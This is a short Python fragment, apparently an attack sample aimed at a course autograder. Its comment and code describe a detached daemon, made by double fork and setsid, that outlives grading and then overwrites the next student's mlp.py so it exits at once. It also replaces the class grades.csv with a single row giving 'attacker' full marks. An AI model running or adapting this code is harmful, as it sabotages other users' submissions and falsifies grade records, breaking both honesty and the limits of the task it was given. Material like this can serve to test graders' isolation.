# Leave a daemon behind that, after grading, overwrites the next student's
# mlp.py and the class's grades.
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        for _path, _text in ((VICTIM, "raise SystemExit\n"),
                             (os.path.join(RESULTS_DIR, "grades.csv"),
                              "student,total\nattacker,50\n")):
            try:
                with open(_path, "w") as _f:
                    _f.write(_text)
            except OSError:
                pass
        time.sleep(25)
    os._exit(0)
